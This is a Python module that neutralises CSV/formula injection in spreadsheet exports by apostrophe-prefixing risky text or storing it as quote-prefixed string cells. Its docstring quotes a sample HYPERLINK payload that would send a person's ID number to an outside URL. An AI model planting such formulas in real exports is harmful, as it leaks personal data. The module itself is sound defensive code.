"""Text cells that a spreadsheet program will never run as a formula (CSV/formula injection).

A person's name, address or note comes from a caseworker or an import file; a value such as
``=HYPERLINK("http://…?fnr="&B4;"Klikk her")`` must reach the reader of an export as text, never as
a live formula that sends personal data elsewhere. Every spreadsheet and CSV file the program
writes passes its text through here:

* CSV: a text that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading
  apostrophe (OWASP's advice), so Excel and LibreOffice show it as text. A plain number written by
  the program (``-125,50``) is left alone.
* .xlsx: such a text is stored as a string cell (openpyxl would otherwise store it as a formula)
  with Excel's "quote prefix" set, so it stays text even when someone edits the cell.
"""

from __future__ import annotations

import re
from typing import Any

FORMULA_LEADERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d[\d\u00a0 ]*(?:[.,]\d+)?")


def is_risky(value: object) -> bool:
    """True for text a spreadsheet could read as a formula."""
    return (isinstance(value, str) and value.startswith(FORMULA_LEADERS)
            and _PLAIN_NUMBER.fullmatch(value) is None)


def csv_text(value: Any) -> Any:
    """``value`` for a CSV cell: risky text with a leading apostrophe, everything else unchanged."""
    return "'" + value if is_risky(value) else value


def csv_row(values: Any) -> list[Any]:
    return [csv_text(value) for value in values]


def protect_cell(cell: Any) -> Any:
    """Make an openpyxl cell (normal or write-only) holding risky text a plain text cell."""
    if is_risky(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def xlsx_value(sheet: Any, value: Any) -> Any:
    """For ``sheet.append`` in a write-only workbook: risky text as a protected text cell."""
    if not is_risky(value):
        return value
    from openpyxl.cell import WriteOnlyCell

    return protect_cell(WriteOnlyCell(sheet, value=value))


def protect_sheet(sheet: Any) -> None:
    """Protect every cell of a normal (not write-only) worksheet."""
    for row in sheet.iter_rows():
        for cell in row:
            protect_cell(cell)
